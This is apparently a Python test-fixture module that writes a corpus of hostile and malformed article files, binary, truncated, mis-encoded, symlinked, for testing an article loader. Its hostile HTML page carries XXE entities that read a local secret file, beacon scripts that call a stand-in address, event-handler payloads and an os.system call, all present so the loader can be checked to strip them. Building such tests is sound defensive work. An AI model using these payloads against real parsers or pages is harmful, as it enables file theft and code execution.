"""A folder of hostile and broken article files, each with what the load must do with it.

Every case is deterministic (no randomness without a seed) and small except where the case is
size itself. ``expect`` is ``"problem"`` (reported, not loaded) or ``"loads"`` (an article whose
cleaned text holds ``text``); ``message`` is a piece of the problem's message, said plainly.
"""

from __future__ import annotations

import codecs
import json
import os
import random
from dataclasses import dataclass
from pathlib import Path

__all__ = ["GOOD_TEXT", "MARKER", "SECRET", "Case", "build_corpus", "hostile_html"]

GOOD_TEXT = (
    "City council approves budget\n\n"
    "The city council approved the new budget on 12 March 2021 after a debate that lasted "
    "most of the night, the mayor's office said.\n"
)
MARKER = "TLHOSTILE7f3a"  # in every piece of code the hostile files carry
SECRET = "TLSECRET-do-not-read-91c2"  # in a canary file the hostile HTML points at


@dataclass(frozen=True)
class Case:
    name: str
    expect: str  # "problem" or "loads"
    text: str = ""  # for "loads": a piece the cleaned text must hold
    message: str = ""  # for "problem": a piece of the message (case-insensitive)
    absent: tuple[str, ...] = ()  # for "loads": what the cleaned text must not hold
    problems: int | None = None  # how many problems the file must give (records that fail)


def hostile_html(canary: Path) -> str:
    """A page with every way a browser would run code or fetch something, and one true sentence."""
    url = "http://198.51.100.7"  # TEST-NET-2: never routed; the guard fails any attempt anyway
    code = f"__import__('os').system('touch /tmp/{MARKER}')"
    return f"""<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "file://{canary}">
  <!ENTITY remote SYSTEM "{url}/entity.dtd">
]>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url={url}/refresh">
<base href="{url}/base/">
<title>Flood barrier closes</title>
<link rel="stylesheet" href="{url}/style.css">
<link rel="import" href="{url}/import.html">
<link rel="prefetch" href="{url}/prefetch">
<style>@import url("{url}/imported.css"); body {{ background: url({url}/bg.png) }}</style>
<script>fetch("{url}/beacon?{MARKER}"); document.write("{MARKER} script ran");</script>
<script type="text/python">{code}</script>
<script src="{url}/tracker.js"></script>
</head>
<body onload="alert('{MARKER}')">
<iframe src="{url}/frame.html">{MARKER} iframe fallback</iframe>
<iframe src="file://{canary}"></iframe>
<object data="{url}/object.swf">{MARKER} object</object>
<embed src="{url}/embed.swf">
<img src="{url}/pixel.gif" onerror="eval('{MARKER}')" srcset="{url}/a.png 2x">
<svg><script>alert("{MARKER}")</script><image href="{url}/svg.png"/></svg>
<article>
<h1>Flood barrier closes</h1>
<p>On 8 September 2015 the flood barrier closed for the first time in a decade, officials said.</p>
<p>Engineers had tested it in June 2014. &xxe; &remote;</p>
<p><a href="javascript:eval('{code}')">More</a></p>
</article>
<noscript><img src="{url}/noscript.gif"></noscript>
<template><script>{code}</script></template>
</body></html>
"""


def _prose(clause: str) -> str:
    """A sentence long enough to read as article text, not as a byline or a menu."""
    return f"{clause} after weeks of talks between the unions and the owners, officials said."


def _write(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)


def build_corpus(root: Path) -> tuple[Path, list[Case], Path]:
    """Write the hostile folder under ``root``; return it, its cases and the canary file."""
    folder = root / "corpus"
    canary = root / "canary-secret.txt"
    _write(canary, SECRET)
    rng = random.Random(20231018)
    cases: list[Case] = []

    def add(name: str, data: bytes | str, case: Case) -> None:
        _write(folder / name, data)
        cases.append(case)

    add("good.txt", GOOD_TEXT, Case("good.txt", "loads", "12 March 2021"))
    add("empty.txt", b"", Case("empty.txt", "problem", message="empty"))
    add("blank.html", b" \n\t \r\n", Case("blank.html", "problem", message="empty"))
    noise = bytes(rng.randrange(256) for _ in range(4096))
    add("binary.txt", noise, Case("binary.txt", "problem", message="binary"))
    add("image.html", b"\x89PNG\r\n\x1a\n" + noise, Case("image.html", "problem", message="PNG"))
    add(
        "program.txt",
        b"\x7fELF\x02\x01\x01" + noise,
        Case("program.txt", "problem", message="program"),
    )
    add(
        "truncated.json",
        '{"id": "t1", "title": "Cut", "text": "On 3 May 2020 the',
        Case("truncated.json", "problem", message="not valid JSON"),
    )
    add(
        "truncated.html",
        "<html><head><title>Half a page</title></head><body><article><p>On 4 June 2019 the "
        "council met in the old town hall, members said, and then voted on the long plan to",
        Case("truncated.html", "loads", "4 June 2019"),
    )
    cut = (
        "Mayor of Kraków resigns\n\nThe mayor of Kraków resigned on 5 May 2018 after a long "
        "dispute with the city council over the budget, his office said.\n\nHe had been in "
        "office since 2002 and was expected to stand again – więcej"
    ).encode()
    add("truncated_utf8.txt", cut[:-1], Case("truncated_utf8.txt", "loads", "5 May 2018"))
    add(
        "invalid_utf8.txt",
        b"Mayor resigns\n\nOn 6 July 2017 the mayor \xff\xc3\x28 resigned \xe9\xe8 after a vote in "
        b"the council that went against him by a wide margin, officials said.",
        Case("invalid_utf8.txt", "loads", "6 July 2017"),
    )
    utf16 = (
        "Dam bursts\n\nOn 7 August 2016 the old dam burst after days of heavy rain in Brańsk, "
        "flooding the lower town, officials said."
    )
    add("utf16_bom.txt", utf16.encode("utf-16"), Case("utf16_bom.txt", "loads", "Brańsk"))
    add("utf16le.txt", utf16.encode("utf-16-le"), Case("utf16le.txt", "loads", "7 August 2016"))
    add("utf16be.txt", utf16.encode("utf-16-be"), Case("utf16be.txt", "loads", "7 August 2016"))
    add(
        "utf8_bom.html",
        codecs.BOM_UTF8
        + (
            "<html><body><article><p>On 9 October 2014 the old bridge reopened in Zürich after "
            "two years of repairs, the city said.</p></article></body></html>"
        ).encode(),
        Case("utf8_bom.html", "loads", "Zürich"),
    )
    add(
        "bad_bom.txt",
        codecs.BOM_UTF16_LE + b"\x00\xd8",  # a lone surrogate after a UTF-16 BOM
        Case("bad_bom.txt", "problem"),
    )
    add(
        "hostile.html",
        hostile_html(canary),
        Case(
            "hostile.html",
            "loads",
            "8 September 2015",
            absent=(MARKER, SECRET, "fetch(", "alert(", "__import__"),
        ),
    )
    add(
        "wrong_fields.json",
        json.dumps({"identifier": 5, "body": "On 1 May 2013 the strike began."}),
        Case("wrong_fields.json", "problem", message="no article records"),
    )
    add(
        "wrong_types.json",
        json.dumps(
            [
                {"id": "ok1", "title": "Fine", "text": _prose("On 2 May 2013 the strike ended")},
                {"id": "bad1", "text": 42},
                {"id": "bad2", "text": ["On", "3 May"]},
                {"id": "bad3", "text": "On 4 May 2013.", "published": "2013-02-30"},
                {"id": "bad4", "title": {"nested": True}, "text": "x"},
                "just a string",
                None,
            ]
        ),
        Case("wrong_types.json", "loads", "2 May 2013", problems=6),
    )
    add("null.json", "null", Case("null.json", "problem"))
    add("number.json", "7", Case("number.json", "problem"))
    add("deep.json", "[" * 100_000 + "]" * 100_000, Case("deep.json", "problem"))
    add(
        "mixed.jsonl",
        "\n".join(
            [
                json.dumps({"id": "l1", "text": _prose("On 5 May 2012 the port opened")}),
                '{"id": "l2", "text": "broken',
                "",
                json.dumps({"id": "l3", "text": "On 6 May 2012.", "published": "99999-01-01"}),
                json.dumps({"id": "l4", "html": f"<script>{MARKER}</script><p>On 7 May 2012.</p>"}),
                "[1, 2, 3]",
            ]
        ),
        Case("mixed.jsonl", "loads", "5 May 2012", problems=4),
    )
    add(
        "controls.txt",
        "Quake\n\nOn 10 May 2011 \x1b[31ma strong quake\x1b[0m struck\u202e the coast at dawn, "
        "\u200bdamaging\u2028 houses in three villages, officials said.",
        Case("controls.txt", "loads", "10 May 2011"),
    )
    add(
        "nul.txt",
        "Quake\n\nA quake struck\u0000 the coast.",
        Case("nul.txt", "problem", message="binary"),
    )
    add(
        "long_line.txt",
        "On 11 May 2010 " + "the committee met again and again " * 3_000,
        Case("long_line.txt", "loads", "11 May 2010"),
    )
    # unreadable things: a folder named like an article, a FIFO, links that loop or dangle
    (folder / "folder.txt").mkdir()
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe.txt")
    loop = folder / "loop"
    loop.mkdir()
    (loop / "again").symlink_to(loop, target_is_directory=True)
    (folder / "self.txt").symlink_to(folder / "self.txt")
    (folder / "dangling.txt").symlink_to(folder / "missing-target.txt")
    cases += [
        Case("pipe.txt", "problem", message="not a regular file"),
        Case("loop", "problem", message="loop"),
        Case("self.txt", "problem", message="link"),
        Case("dangling.txt", "problem", message="link"),
    ]
    return folder, cases, canary
